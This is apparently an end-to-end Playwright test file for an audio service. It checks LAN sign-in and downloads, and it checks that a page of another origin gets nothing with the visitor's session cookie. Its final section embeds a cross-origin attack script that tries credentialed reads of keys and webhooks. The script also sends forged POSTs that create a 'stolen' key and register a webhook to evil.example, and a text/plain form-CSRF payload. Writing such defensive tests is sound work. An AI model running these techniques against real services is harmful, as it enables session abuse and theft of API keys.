import { readFile, rm } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Task } from "@stemwright/contract";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeTone, toWav } from "../support/audio.ts";
import { openBrowser, openPage } from "../support/browser.ts";
import { type Service, startService } from "../support/service.ts";
import { OWNER, signInOwner } from "../support/sign-in-owner.ts";
import { makeTempDir } from "../support/temp-dir.ts";

const RATE_HZ = 44_100;
/** A host name in a local network: plain http makes it an insecure context. */
const HOST = "studio.lan";
const OTHER_SITE = "evil.example";

let dataDir: string;
let service: Service;
let browser: Browser;
/** The service's address in the browser. */
let address: string;
let task: Task;
beforeAll(async () => {
  dataDir = await makeTempDir("lan");
  [service, browser] = await Promise.all([
    startService({ dataDir }),
    openBrowser({ hosts: [HOST, OTHER_SITE] }),
  ]);
  address = `http://${HOST}:${new URL(service.address).port}`;
  const song = toWav(makeTone({ sampleRateHz: RATE_HZ, channels: 2, lengthFrames: 3 * RATE_HZ }));
  const { id: assetId } = await service.upload(song, "Song.wav");
  const targets = [{ model: "drums", formats: ["wav", "mp3"] }];
  task = await service.waitForTask((await service.createTask({ assetId, targets })).id);
});
afterAll(async () => {
  await browser?.close();
  await service?.stop();
  await rm(dataDir, { recursive: true, force: true });
});

/** Signs in through the form; the first call sets the password. */
async function signIn(context: BrowserContext): Promise<void> {
  const other = await browser.newContext();
  await signInOwner(other, service);
  await other.close();
  const page = context.pages()[0] ?? (await context.newPage());
  await page.goto(`${address}/`);
  await page.getByLabel("Email").fill(OWNER.email);
  await page.getByLabel("Password").fill(OWNER.password);
  await page.keyboard.press("Enter");
  await page.locator("main.page h1").waitFor();
}

describe("a browser in the local network, over plain http", () => {
  it("[PG8] signs in, copies a key, plays a Task and downloads it", async () => {
    const { page, context, complaints } = await openPage(browser, { baseURL: address });
    await signIn(context);
    expect(await page.evaluate("isSecureContext")).toBe(false);
    expect(await page.evaluate("typeof navigator.clipboard")).toBe("undefined");

    await page.goto("/app/settings/keys");
    await page.getByRole("button", { name: "New key" }).click();
    await page.getByLabel("Name").fill("Studio");
    await page.getByRole("button", { name: "Make the key" }).click();
    const key = await page.getByRole("region", { name: "API key", exact: true }).textContent();
    await page.getByRole("button", { name: "Copy API key" }).click();
    await page.getByText("Copied.").waitFor();
    await page.getByRole("button", { name: "I have it" }).click();
    await page.goto("/app/tasks");
    await page.getByLabel("Search Tasks").focus();
    await page.keyboard.press("Control+V");
    expect(await page.getByLabel("Search Tasks").inputValue()).toBe(key);

    await page.goto(`/app/tasks/${task.id}`);
    await page.getByRole("button", { name: "Solo Original" }).click();
    await page.getByRole("button", { name: "Play", exact: true }).click();
    await expect.poll(() => page.getByTestId("level").textContent()).toMatch(/^-\d+ dBFS$/);

    await page.getByRole("tab", { name: "Outputs" }).click();
    for (const [button, name, leastBytes] of [
      [page.getByRole("link", { name: "Download drums.mp3" }), "drums.mp3", 1000],
      [page.getByRole("button", { name: /^All as zip/ }), "Song.zip", 3 * 8 * RATE_HZ],
    ] as const) {
      const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
      expect(new URL(download.url()).host).toBe(new URL(address).host);
      expect(download.suggestedFilename()).toBe(name);
      expect((await readFile(await download.path())).length).toBeGreaterThan(leastBytes);
    }
    expect(complaints).toEqual([]);
    await context.close();
  });

  it("[PG8] runs a Task from an upload", async () => {
    const { page, context, complaints } = await openPage(browser, { baseURL: address });
    await signIn(context);
    await page.goto("/app/playground?m=music_detection&text=txt");
    await page.getByLabel("Files", { exact: true }).setInputFiles({
      name: "Talk.wav",
      mimeType: "audio/wav",
      buffer: Buffer.from(toWav(makeTone({ sampleRateHz: RATE_HZ, channels: 1, lengthFrames: RATE_HZ }))),
    });
    await page.getByRole("button", { name: "Run", exact: true }).click();
    await page.getByRole("heading", { name: "Talk.wav" }).waitFor();
    await page.getByRole("tab", { name: "Outputs" }).click();
    await page.getByRole("link", { name: "Download music_detection.txt" }).waitFor({ timeout: 240_000 });
    expect(complaints).toEqual([]);
    await context.close();
  });
});

/** Everything a page of another origin can try with the visitor's cookie; runs there. Returns what it obtained. */
const ATTACK = `async (service) => {
  const got = [];
  const attempt = async (name, run) => {
    try {
      const result = await run();
      if (result !== undefined) got.push(name + ": " + result);
    } catch {}
  };
  const dashboard = { "x-stemwright-dashboard": "1" };
  const json = { "content-type": "application/json" };
  for (const path of ["/account/me", "/account/keys", "/tasks", "/assets", "/webhooks/secret"]) {
    for (const headers of [{}, dashboard])
      await attempt("fetch " + path, async () => {
        const response = await fetch(service + path, { credentials: "include", headers });
        return response.status;
      });
    await attempt("request " + path, () => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open("GET", service + path);
      request.withCredentials = true;
      request.onload = () => resolve(request.responseText);
      request.onerror = () => resolve(undefined);
      request.send();
    }));
    await attempt("script " + path, () => new Promise((resolve) => {
      const script = document.createElement("script");
      script.src = service + path;
      script.onload = () => resolve("ran");
      script.onerror = () => resolve(undefined);
      document.head.append(script);
    }));
  }
  const posts = [["/account/keys", { name: "stolen", role: "client" }], ["/account/sign-out", {}], ["/webhooks", { url: "https://evil.example/hook" }]];
  for (const [path, body] of posts) {
    await attempt("blind " + path, () =>
      fetch(service + path, { method: "POST", mode: "no-cors", credentials: "include", body: JSON.stringify(body) }).then(() => undefined));
    for (const headers of [json, { ...json, ...dashboard }])
      await attempt("post " + path, async () =>
        (await fetch(service + path, { method: "POST", credentials: "include", headers, body: JSON.stringify(body) })).status);
  }
  await attempt("events", () => new Promise((resolve) => {
    const source = new EventSource(service + "/tasks/x/events", { withCredentials: true });
    source.onopen = () => resolve("opened");
    source.onerror = () => { source.close(); resolve(undefined); };
  }));
  await attempt("frame", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      let text;
      try { text = frame.contentDocument?.body?.innerText || undefined; } catch {}
      resolve(text);
    };
    frame.src = service + "/app/settings/keys";
    document.body.append(frame);
  }));
  return got;
}`;

describe("a page of another origin, in a signed-in browser", () => {
  let server: Server;
  beforeAll(async () => {
    server = createServer((_request, response) => {
      response.setHeader("content-type", "text/html").end("<!doctype html><title>Prize</title><body>");
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  });
  afterAll(() => new Promise((resolve) => server.close(resolve)));

  // The second one is same-site: cookies ignore ports, so the browser sends the session cookie along.
  it.each([OTHER_SITE, HOST])("[PE1] gets nothing with the cookie, from %s", async (host) => {
    const { page, context } = await openPage(browser, { baseURL: address });
    await signIn(context);
    const loadKeys = async () => (await (await service.call("/account/keys")).json()) as { name: string }[];
    const before = await loadKeys();
    const attacker = await context.newPage();
    await attacker.goto(`http://${host}:${(server.address() as AddressInfo).port}/`);
    const got = await attacker.evaluate<string[]>(`(${ATTACK})(${JSON.stringify(address)})`);
    expect(got).toEqual([]);
    // A form navigates the browser itself.
    await attacker.evaluate(`{
      const form = document.createElement("form");
      form.method = "post";
      form.action = ${JSON.stringify(`${address}/account/keys`)};
      form.enctype = "text/plain";
      const field = document.createElement("input");
      field.name = '{"name":"stolen","role":"client","x":"';
      field.value = '"}';
      form.append(field);
      document.body.append(form);
      form.submit();
    }`);
    await attacker.waitForURL(`${address}/account/keys`);
    expect(await attacker.textContent("body")).toMatch(/KEY_MISSING|CONTENT_TYPE_UNSUPPORTED/);

    expect(await loadKeys()).toEqual(before);
    expect(await (await service.call("/webhooks")).json()).toEqual([]);
    await page.goto("/app/settings/keys");
    await page.getByRole("heading", { name: "API keys", level: 1 }).waitFor();
    await context.close();
  });
});
